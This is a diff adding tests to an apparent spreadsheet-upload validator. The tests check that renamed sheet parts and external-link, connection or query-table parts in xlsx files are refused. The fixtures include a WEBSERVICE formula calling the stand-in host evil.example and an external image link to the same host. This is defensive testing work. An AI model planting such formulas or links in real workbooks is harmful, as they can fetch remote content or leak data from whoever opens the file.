@@ -71,6 +71,60 @@ def test_a_workbook_that_runs_fetches_or_is_none_is_refused(parts, code):
     assert refused("xlsx", rewritten(a_workbook(), parts)).code == code
 
 
+CALLED = "xl/worksheets/sheet1."
+
+
+def renamed(name: str, parts: dict[str, bytes]) -> bytes:
+    """A workbook whose first sheet is called otherwise, as its own tables say."""
+    data = rewritten(a_workbook(), parts)
+    content = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as given,
+        zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made,
+    ):
+        for one in given.namelist():
+            part = given.read(one)
+            made.writestr(
+                name if one == ONE else one, part.replace(b"sheet1.xml", name.rpartition("/")[2].encode())
+            )
+    return content.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        (f"{CALLED}XML", "from_outside"),
+        (f"{CALLED}dat", "runs"),
+        ("xl/printerSettings/printerSettings1.bin", "runs"),
+    ],
+)
+def test_a_sheet_of_whatever_name_is_looked_through(name, code):
+    assert (
+        refused("xlsx", renamed(name, with_formula("WEBSERVICE(&quot;http://evil.example&quot;)"))).code
+        == code
+    )
+
+
+@pytest.mark.parametrize("kind", ["externalLink", "connections", "queryTable"])
+def test_what_fetches_is_known_by_what_the_workbook_calls_it(kind):
+    named = f'<Override PartName="/xl/a.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"/></Types>'
+    types = part_of(a_workbook(), TYPES).replace(b"</Types>", named.encode())
+    related = linked(kind, "a.xml", "Internal")
+    for parts in (
+        {TYPES: types},
+        related,
+        {LINKS.upper(): linked("image", "http://evil.example/a.png")[LINKS]},
+    ):
+        data = rewritten(a_workbook(), parts | {"xl/a.xml": b"<a/>"})
+        assert refused("xlsx", data).code in ("from_outside", "broken")
+
+
+def test_a_printer_s_settings_as_a_list_of_values_are_taken():
+    settings = b'<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" ""><plist/>'
+    data = rewritten(a_workbook(), {"xl/printerSettings/printerSettings1.bin": settings})
+    assert carried_out({"do": "look", "kind": "xlsx", "size": len(data)}, data)[1] == data
+
+
 def test_a_link_that_somebody_clicks_and_a_printers_settings_are_taken():
     parts = linked("hyperlink", "https://www.km.gov.cn") | {"xl/printerSettings/printerSettings1.bin": b"x"}
     data = rewritten(a_workbook(), parts)
